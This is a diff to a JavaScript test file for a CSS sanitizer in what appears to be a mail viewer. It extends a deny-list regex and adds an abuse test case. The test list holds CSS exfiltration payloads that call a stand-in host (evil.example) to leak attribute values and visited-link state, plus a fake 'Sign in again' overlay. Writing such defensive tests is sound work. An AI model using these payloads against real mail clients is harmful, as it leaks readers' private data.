@@ -69,7 +69,7 @@ describe('what a design needs stays', () => {
 
 /** Nothing that fetches, lifts, hides from the reader, reacts to him, or tells what the mail says. */
 const dangers =
-  /<|@(?!media )|\[(?!data-body\])|url\((?!"https?:\/\/[^"'()\\<>\s]*"\))|position|expression|behavio|binding|:visited|:hover|:focus|:has|content:|javascript|\\/i
+  /details|summary|<|@(?!media )|\[(?!data-body\])|url\((?!"https?:\/\/[^"'()\\<>\s]*"\))|position|expression|behavio|binding|:visited|:hover|:focus|:has|content:|javascript|\\/i
 
 describe('abuse-03 nothing leaves the frame, nothing covers the app', () => {
   test.each([
@@ -100,6 +100,7 @@ describe('abuse-03 nothing leaves the frame, nothing covers the app', () => {
     'p::before{content:"Sign in again"}',
     'a[href^="https://secret"]{background:url(https://evil.example/secret)}',
     'input[value^=a]{color:red}',
+    'details,details > summary.x{display:none}',
     'a:visited{background:url(https://evil.example/v)}',
     'a:hover{background:url(https://evil.example/h)}',
     'p:has(a){color:red}',
